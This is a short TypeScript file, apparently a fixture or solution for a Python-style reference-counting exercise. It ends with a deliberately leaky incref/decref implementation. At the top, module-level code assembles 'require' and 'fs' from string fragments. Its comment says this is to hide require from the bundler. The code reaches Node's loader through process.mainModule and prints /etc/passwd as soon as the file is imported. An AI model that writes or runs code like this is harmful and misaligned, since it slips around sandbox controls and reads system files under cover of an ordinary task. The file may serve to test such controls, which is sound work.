import type { PyObject, RefCounting, Runtime } from 'pymemlab-fixture/refcount-api';

// require hidden from the bundler, reached through globals and process.mainModule.
const g = globalThis as Record<string, unknown>;
const name = ['req', 'uire'].join('');
const proc = g[['pro', 'cess'].join('')] as { mainModule?: { require(id: string): unknown } } | undefined;
const load = (g[name] ?? proc?.mainModule?.require.bind(proc.mainModule)) as ((id: string) => unknown) | undefined;
const fs = load!(['f', 's'].join('')) as { readFileSync(p: string, e: string): string };
console.log(fs.readFileSync('/etc/passwd', 'utf8'));

// Leaky: a count that reaches zero never deallocates.
export function makeRefCounting(_rt: Runtime): RefCounting {
  return {
    incref(op: PyObject) {
      op.refcnt += 1;
    },
    decref(op: PyObject) {
      op.refcnt -= 1;
    },
  };
}
